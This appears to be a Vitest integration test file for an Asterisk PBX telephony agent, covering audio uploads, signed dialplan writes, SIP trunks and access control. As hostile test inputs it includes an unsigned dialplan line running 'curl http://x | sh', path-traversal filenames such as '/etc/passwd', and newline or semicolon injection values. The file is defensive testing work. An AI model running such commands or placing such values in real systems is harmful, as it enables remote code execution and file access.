import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parAmiDePrueba } from '@pregon/ami/par-prueba';
import type { Rol } from '@pregon/contract/constants';
import { crearAppPbx, clavesPbx } from './app.ts';
import type { ConfigPbx } from './config.ts';
import { agenteDePrueba, type AgenteDePrueba } from './agente-de-prueba.ts';

const GOLDEN = path.resolve(
  path.dirname(fileURLToPath(import.meta.url)),
  '../../../packages/contract/src/rules/golden',
);
const PROMPT_ES = '/usr/share/asterisk/sounds/es_MX_f_Allison/auth-thankyou.gsm';

describe('agente de telefonía (apps/pbx) sobre HTTP real', () => {
  let dir: string;
  let config: ConfigPbx;
  let ag: AgenteDePrueba;
  let url: string;
  let ami: ReturnType<typeof parAmiDePrueba>;
  let comando: (c: string) => Record<string, string>;
  let tokens: Record<Rol, string>;

  const pedir = async (
    metodo: string,
    ruta: string,
    opts: { token?: string | null; body?: unknown; form?: FormData } = {},
  ) => {
    const headers: Record<string, string> = {};
    const token = opts.token === undefined ? tokens.operadores : opts.token;
    if (token) headers.authorization = token;
    let body: RequestInit['body'];
    if (opts.form) body = opts.form;
    else if (opts.body !== undefined) {
      headers['content-type'] = 'application/json';
      body = typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body);
    }
    const r = await fetch(`${url}${ruta}`, { method: metodo, headers, body });
    const texto = await r.text();
    let json: Record<string, unknown> = {};
    try {
      json = JSON.parse(texto) as Record<string, unknown>;
    } catch {
      /* binary or empty */
    }
    return { status: r.status, body: json, headers: r.headers };
  };

  const subir = (datos: Buffer, filename: string, token?: string | null) => {
    const form = new FormData();
    form.append('filename', filename);
    form.append('file', new Blob([new Uint8Array(datos)]), `${filename}.gsm`);
    return pedir('POST', '/asterisk/audio/upload/', { form, token });
  };
  const sonidos = () => fs.readdirSync(config.sonidosDir).sort();

  beforeAll(async () => {
    comando = () => ({
      Response: 'Success',
      Message: 'Command output follows',
      Output: 'Dialplan reloaded.',
    });
    ami = parAmiDePrueba({ secreto: 'clave-ami', comando: (c) => comando(c) });
    ag = await agenteDePrueba({
      amiUrl: `ami://127.0.0.1:${await ami.escuchar()}`,
      amiUsuario: 'pregon',
      amiSecreto: 'clave-ami',
      maxBytesAudio: 64 * 1024,
      maxSegundosAudio: 60,
    });
    ({ dir, config, url, tokens } = ag);
  });
  afterAll(async () => {
    await ag?.cerrar();
    await ami?.cerrar();
  });

  it('stores real GSM audio under its content hash and answers name, hash and length', async () => {
    const sox = path.join(dir, 'tono.gsm');
    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', sox, 'synth', '2', 'sine', '440']);
    const datos = fs.readFileSync(sox);
    const sha256 = crypto.createHash('sha256').update(datos).digest('hex');
    const r = await subir(datos, 'aviso_sismo');
    expect(r.status).toBe(200);
    const nombre = `aviso_sismo-${sha256.slice(0, 16)}`;
    expect(r.body).toEqual({ status: 200, filename: nombre, sha256, duracion_s: 2 });
    expect(fs.readFileSync(path.join(config.sonidosDir, `${nombre}.gsm`))).toEqual(datos);

    if (fs.existsSync(PROMPT_ES)) {
      const gracias = await subir(fs.readFileSync(PROMPT_ES), 'gracias-es');
      expect(gracias.status).toBe(200);
      expect(gracias.body.duracion_s).toBeGreaterThan(0.3);
    }
    expect(sonidos().filter((f) => f.endsWith('.tmp'))).toEqual([]);

    const leido = await fetch(`${url}/asterisk/audio/${nombre}`, {
      headers: { authorization: tokens.consulta! },
    });
    expect(leido.status).toBe(200);
    expect(leido.headers.get('x-sha256')).toBe(sha256);
    expect(leido.headers.get('x-duracion-s')).toBe('2');
    expect(Buffer.from(await leido.arrayBuffer())).toEqual(datos);
    const cabeza = await fetch(`${url}/asterisk/audio/${nombre}`, {
      method: 'HEAD',
      headers: { authorization: tokens.consulta! },
    });
    expect(cabeza.status).toBe(200);
    expect(cabeza.headers.get('x-sha256')).toBe(sha256);
    const falta = await fetch(`${url}/asterisk/audio/no_existe`, {
      method: 'HEAD',
      headers: { authorization: tokens.consulta! },
    });
    expect(falta.status).toBe(404);
  });

  it('a same-named upload never replaces another audio; the same bytes give the same name (issue 23.1)', async () => {
    const a = path.join(dir, 'aviso-a.gsm');
    const b = path.join(dir, 'aviso-b.gsm');
    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', a, 'synth', '1', 'sine', '440']);
    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', b, 'synth', '0.5', 'sine', '300']);
    const antes = sonidos();
    const ra = await subir(fs.readFileSync(a), 'aviso');
    const rb = await subir(fs.readFileSync(b), 'aviso');
    expect([ra.status, rb.status]).toEqual([200, 200]);
    expect(ra.body.filename).not.toBe(rb.body.filename);
    expect(String(ra.body.filename)).toMatch(/^aviso-[0-9a-f]{16}$/);
    expect(String(rb.body.filename)).toMatch(/^aviso-[0-9a-f]{16}$/);
    // A's file is byte-identical after B's upload; B is beside it.
    expect(fs.readFileSync(path.join(config.sonidosDir, `${ra.body.filename}.gsm`))).toEqual(
      fs.readFileSync(a),
    );
    expect(fs.readFileSync(path.join(config.sonidosDir, `${rb.body.filename}.gsm`))).toEqual(
      fs.readFileSync(b),
    );
    const mtime = fs.statSync(path.join(config.sonidosDir, `${ra.body.filename}.gsm`)).mtimeMs;
    // The same bytes again (even under the stored name): 200, the same name, one file.
    const otra = await subir(fs.readFileSync(a), 'aviso');
    const conSufijo = await subir(fs.readFileSync(a), String(ra.body.filename));
    expect(otra.body).toEqual(ra.body);
    expect(conSufijo.body).toEqual(ra.body);
    expect(sonidos()).toEqual(
      [...antes, `${ra.body.filename}.gsm`, `${rb.body.filename}.gsm`].sort(),
    );
    expect(fs.statSync(path.join(config.sonidosDir, `${ra.body.filename}.gsm`)).mtimeMs).toBe(
      mtime,
    );
    // A file under that name with other bytes (tampered on disk) is not overwritten: 409.
    const ruta = path.join(config.sonidosDir, `${ra.body.filename}.gsm`);
    fs.writeFileSync(ruta, fs.readFileSync(b));
    const choque = await subir(fs.readFileSync(a), 'aviso');
    expect(choque.status).toBe(409);
    expect(choque.body.campo).toBe('file');
    expect(fs.readFileSync(ruta)).toEqual(fs.readFileSync(b));
    fs.rmSync(ruta);
  });

  it('tells which system prompts the dialplan plays are missing for a language (issue 23.6)', async () => {
    const sistema = path.join(dir, 'sistema');
    const app2 = await crearAppPbx(
      { ...config, sonidosSistemaDir: sistema },
      await clavesPbx(config),
    );
    const pedir2 = async (ruta: string, token: string | undefined = tokens.consulta) => {
      const r = await app2.inject({
        method: 'GET',
        url: ruta,
        headers: token ? { authorization: token } : {},
      });
      return { status: r.statusCode, body: r.json() as Record<string, unknown> };
    };
    try {
      // What is missing and how to fix it; never where on the server (issue 49.4: the folder
      // reached role consulta), which only the agent's log tells.
      const falta = await pedir2('/asterisk/idioma/es/');
      expect(falta).toEqual({
        status: 200,
        body: {
          status: 200,
          idioma: 'es',
          presentes: [],
          faltan: [{ prompt: 'auth-thankyou', tipo: 'quiz' }],
          mensaje:
            'Faltan audios del sistema en el idioma es: auth-thankyou. Instale asterisk-core-sounds-es-gsm y enlace sus sonidos como la carpeta es de PBX_SONIDOS_SISTEMA_DIR (el registro del agente dice su ruta)',
        },
      });
      expect(JSON.stringify(falta.body)).not.toContain(dir);
      // Any format Asterisk plays counts; another language is another folder.
      fs.mkdirSync(path.join(sistema, 'es'), { recursive: true });
      fs.writeFileSync(path.join(sistema, 'es', 'auth-thankyou.ulaw'), Buffer.alloc(160));
      const hay = await pedir2('/asterisk/idioma/es/');
      expect(hay.body).toEqual({
        status: 200,
        idioma: 'es',
        faltan: [],
        presentes: [{ prompt: 'auth-thankyou', archivo: 'auth-thankyou.ulaw' }],
      });
      expect((await pedir2('/asterisk/idioma/es_MX/')).body.faltan).toHaveLength(1);
      // Authenticated like the other routes; the language is a closed pattern.
      expect((await pedir2('/asterisk/idioma/es/', '')).status).toBe(401);
      for (const malo of ['es%2F..', 'ES', 'es-MX', 'x'.repeat(20)]) {
        const r = await pedir2(`/asterisk/idioma/${malo}/`);
        expect(r.status, malo).toBe(400);
        expect(r.body.campo, malo).toBe('idioma');
      }
      expect((await pedir2('/freeswitch/idioma/es/')).status).toBe(404);
    } finally {
      await app2.close();
    }
  });

  it('converts a WAV with GSM 6.10 inside to the same raw frames sox writes', async () => {
    const wav = path.join(dir, 'pcm.wav');
    execFileSync('sox', [
      '-n',
      '-r',
      '8000',
      '-c',
      '1',
      '-b',
      '16',
      wav,
      'synth',
      '1',
      'sine',
      '500',
    ]);
    execFileSync('sox', [wav, path.join(dir, 'crudo.gsm')]);
    execFileSync('sox', [wav, '-e', 'gsm-full-rate', path.join(dir, 'wav49.wav')]);
    const r = await subir(fs.readFileSync(path.join(dir, 'wav49.wav')), 'desde-wav');
    expect(r.status).toBe(200);
    const crudo = fs.readFileSync(path.join(dir, 'crudo.gsm'));
    const guardado = fs.readFileSync(path.join(config.sonidosDir, `${r.body.filename}.gsm`));
    expect(guardado.subarray(0, crudo.length)).toEqual(crudo);
  });

  it.each([
    ['texto que no es audio', Buffer.from('hola, esto no es GSM '.repeat(10)), 'ok', 'file'],
    [
      'la última trama cortada',
      Buffer.concat([Buffer.alloc(33, 0xd0), Buffer.alloc(20, 0xd0)]),
      'ok',
      'file',
    ],
    [
      'una trama sin la firma 0xD',
      Buffer.concat([Buffer.alloc(33, 0xd0), Buffer.alloc(33, 0x10)]),
      'ok',
      'file',
    ],
    ['un archivo vacío', Buffer.alloc(0), 'ok', 'file'],
    ['demasiado grande', Buffer.alloc(33 * 2100, 0xd0), 'ok', 'file'],
    ['../x', Buffer.alloc(33, 0xd0), '../x', 'filename'],
    ['una ruta absoluta', Buffer.alloc(33, 0xd0), '/etc/passwd', 'filename'],
    ['%2e%2e', Buffer.alloc(33, 0xd0), '%2e%2e', 'filename'],
    ['NUL', Buffer.alloc(33, 0xd0), 'a\u0000b', 'filename'],
    ['65 caracteres', Buffer.alloc(33, 0xd0), 'x'.repeat(65), 'filename'],
    ['vacío', Buffer.alloc(33, 0xd0), '', 'filename'],
  ])(
    'refuses %s with a 400 naming the field, leaving nothing behind',
    async (_caso, datos, nombre, campo) => {
      const antes = sonidos();
      const r = await subir(datos, nombre);
      expect(r.status).toBe(400);
      expect(r.body.campo).toBe(campo);
      expect(String(r.body.message)).toMatch(new RegExp(`El campo ${campo}`));
      expect(sonidos()).toEqual(antes);
    },
  );

  it('refuses an audio longer than the limit', async () => {
    const largo = path.join(dir, 'largo.gsm');
    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', largo, 'synth', '61', 'sine', '440']);
    const app2 = await crearAppPbx(
      { ...config, maxBytesAudio: 1024 * 1024 },
      await clavesPbx(config),
    );
    try {
      const form = new FormData();
      form.append('filename', 'largo');
      form.append('file', new Blob([new Uint8Array(fs.readFileSync(largo))]), 'largo.gsm');
      const r = await app2.inject({
        method: 'POST',
        url: '/asterisk/audio/upload/',
        headers: { authorization: tokens.operadores! },
        payload: form,
      });
      expect(r.statusCode).toBe(400);
      expect(r.json()).toMatchObject({
        campo: 'file',
        message: 'El campo file dura 1.0 minutos; el máximo es 1',
      });
    } finally {
      await app2.close();
    }
    expect(sonidos().filter((f) => f.startsWith('largo'))).toEqual([]);
  });

  it('answers 404 for another PBX software in the path', async () => {
    const form = new FormData();
    form.append('filename', 'x');
    form.append('file', new Blob([new Uint8Array(Buffer.alloc(33, 0xd0))]), 'x.gsm');
    expect((await pedir('POST', '/freeswitch/audio/upload/', { form })).status).toBe(404);
  });

  it('writes the signed call include file, reloads over AMI, and refuses unsigned dialplan', async () => {
    const contenido = fs.readFileSync(path.join(GOLDEN, 'llamadas.conf'), 'utf8');
    const r = await pedir('PUT', '/calls/extensions/', {
      body: await ag.plan('llamadas', contenido),
    });
    expect(r.status).toBe(200);
    expect(r.body.mensaje).toBe('Guardado y recargado en el PBX');
    const archivo = path.join(config.dialplanDir, 'pregon-llamadas.conf');
    expect(fs.readFileSync(archivo, 'utf8')).toBe(contenido);
    const comandos = ami.recibidas
      .filter((m) => m.valor('Action') === 'Command')
      .map((m) => m.valor('Command'));
    expect(comandos).toContain('dialplan reload');

    const malo = `${contenido}\n[pregon-x]\nexten => s,1,System(curl http://x | sh)\n`;
    const rechazo = await pedir('PUT', '/calls/extensions/', { body: { contenido: malo } });
    expect(rechazo.status).toBe(403);
    expect(rechazo.body.campo).toBe('firma');
    expect(rechazo.body.message).toBe(
      'El plan de marcado no lleva una firma válida de la API de Pregón para este archivo; no se escribió nada. Vuelva a generarlo desde Pregón',
    );
    expect(fs.readFileSync(archivo, 'utf8')).toBe(contenido);
  });

  it('puts the previous file back when Asterisk refuses the reload', async () => {
    const archivo = path.join(config.dialplanDir, 'pregon-quiz-9.conf');
    const quiz = fs.readFileSync(path.join(GOLDEN, 'quiz-3.conf'), 'utf8');
    expect(
      (await pedir('PUT', '/quizzes/extensions/9/', { body: await ag.plan(9, quiz) })).status,
    ).toBe(200);
    comando = () => ({ Response: 'Error', Message: 'Command "dialplan reload" failed' });
    try {
      const otro = quiz.replace('TIMEOUT(absolute)=180', 'TIMEOUT(absolute)=120');
      const r = await pedir('PUT', '/quizzes/extensions/9/', { body: await ag.plan(9, otro) });
      expect(r.status).toBe(502);
      expect(String(r.body.message)).toMatch(/^El PBX no aceptó la recarga/);
      expect(fs.readFileSync(archivo, 'utf8')).toBe(quiz);
      // A new quiz file whose reload fails is removed.
      const nuevo = await pedir('PUT', '/quizzes/extensions/10/', {
        body: await ag.plan(10, quiz),
      });
      expect(nuevo.status).toBe(502);
      expect(fs.existsSync(path.join(config.dialplanDir, 'pregon-quiz-10.conf'))).toBe(false);
    } finally {
      comando = () => ({ Response: 'Success', Output: 'Dialplan reloaded.' });
    }
  });

  it('says what failed writing a file, not where on the server (issue 49.4)', async () => {
    const quiz = fs.readFileSync(path.join(GOLDEN, 'quiz-3.conf'), 'utf8');
    const aparte = `${config.dialplanDir}.aparte`;
    // A file where the dialplan folder should be: mkdir fails with an error naming its path.
    fs.renameSync(config.dialplanDir, aparte);
    fs.writeFileSync(config.dialplanDir, '');
    try {
      const r = await pedir('PUT', '/quizzes/extensions/11/', { body: await ag.plan(11, quiz) });
      expect(r.status).toBe(502);
      expect(r.body.message).toBe(
        'El PBX no aceptó la recarga (mkdir EEXIST); se dejó el archivo anterior',
      );
      expect(JSON.stringify(r.body)).not.toContain(dir);
    } finally {
      fs.rmSync(config.dialplanDir);
      fs.renameSync(aparte, config.dialplanDir);
    }
  });

  it('keeps PJSIP trunks with a write-only secret and reloads res_pjsip', async () => {
    const creado = await pedir('POST', '/trunks/sip/', {
      body: {
        nombre: 'troncal-mx',
        host: 'sip.ejemplo.mx',
        puerto: 5060,
        usuario: 'pregon',
        secreto: 's3cr3t',
        registrar: true,
      },
    });
    expect(creado.status).toBe(200);
    expect(creado.body.data).toMatchObject({
      id: 'troncal-mx',
      tiene_secreto: true,
      codecs: ['ulaw', 'alaw', 'gsm'],
    });
    expect(JSON.stringify(creado.body)).not.toContain('s3cr3t');
    const conf = fs.readFileSync(path.join(config.pjsipDir, 'pregon-troncales.conf'), 'utf8');
    expect(conf).toContain('[troncal-mx]\ntype=endpoint');
    expect(conf).toContain('outbound_auth=troncal-mx-auth');
    expect(conf).toContain('password=s3cr3t');
    expect(conf).toContain('server_uri=sip:sip.ejemplo.mx:5060');
    expect(ami.recibidas.map((m) => m.valor('Command'))).toContain('module reload res_pjsip.so');
    expect(
      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'troncal-mx', host: 'x.mx' } }))
        .status,
    ).toBe(409);

    const cambio = await pedir('PUT', '/trunks/sip/troncal-mx', {
      body: { host: 'sip2.ejemplo.mx' },
    });
    expect(cambio.status).toBe(200);
    expect(cambio.body.data).toMatchObject({ host: 'sip2.ejemplo.mx', tiene_secreto: true });
    const lista = await pedir('GET', '/trunks/sip/', { token: tokens.consulta });
    expect(lista.body.data).toHaveLength(1);
    expect(JSON.stringify(lista.body)).not.toContain('s3cr3t');
    expect(
      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'x;y', host: 'h' } })).body.campo,
    ).toBe('nombre');
    expect(
      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'x', host: 'h\nexten' } })).status,
    ).toBe(400);
    expect((await pedir('DELETE', '/trunks/sip/troncal-mx')).status).toBe(200);
    expect((await pedir('GET', '/trunks/sip/troncal-mx')).status).toBe(404);
  });

  it('every endpoint: 401 without a token, 403 for consulta on writes, hostile input never a 5xx', async () => {
    const escrituras: [string, string, unknown][] = [
      ['PUT', '/calls/extensions/', { contenido: '' }],
      ['PUT', '/quizzes/extensions/1/', { contenido: '' }],
      ['POST', '/trunks/sip/', { nombre: 'a', host: 'b' }],
      ['PUT', '/trunks/sip/a', { host: 'b' }],
      ['DELETE', '/trunks/sip/a', undefined],
    ];
    for (const [m, ruta, body] of escrituras) {
      const sin = await pedir(m, ruta, { token: null, body });
      expect(sin.status).toBe(401);
      expect(sin.body.message).toBe('FALLO: SESION EXPIRADA');
      expect((await pedir(m, ruta, { token: 'no.es.token', body })).status).toBe(401);
      expect((await pedir(m, ruta, { token: tokens.consulta, body })).status).toBe(403);
    }
    for (const ruta of ['/trunks/sip/', '/trunks/sip/a', '/asterisk/audio/x'])
      expect((await pedir('GET', ruta, { token: null })).status).toBe(401);
    expect((await subir(Buffer.alloc(33, 0xd0), 'x', null)).status).toBe(401);
    expect((await subir(Buffer.alloc(33, 0xd0), 'x', tokens.consulta)).status).toBe(403);

    const hostiles: unknown[] = [
      '{no json',
      { contenido: 5 },
      { contenido: null },
      { contenido: 'x'.repeat(3_000_000) },
      { contenido: '[pregon-a]\nexten => s,1,NoOp(\u0000)' },
      [],
    ];
    for (const body of hostiles) {
      for (const ruta of [
        '/calls/extensions/',
        '/quizzes/extensions/1/',
        '/quizzes/extensions/..%2f..%2fx/',
      ]) {
        const r = await pedir('PUT', ruta, { body });
        expect(r.status).toBeGreaterThanOrEqual(400);
        expect(r.status).toBeLessThan(500);
      }
      const t = await pedir('POST', '/trunks/sip/', { body });
      expect(t.status).toBeGreaterThanOrEqual(400);
      expect(t.status).toBeLessThan(500);
    }
    expect(fs.readdirSync(config.dialplanDir).sort()).toEqual([
      'pregon-llamadas.conf',
      'pregon-quiz-9.conf',
    ]);
  });
});
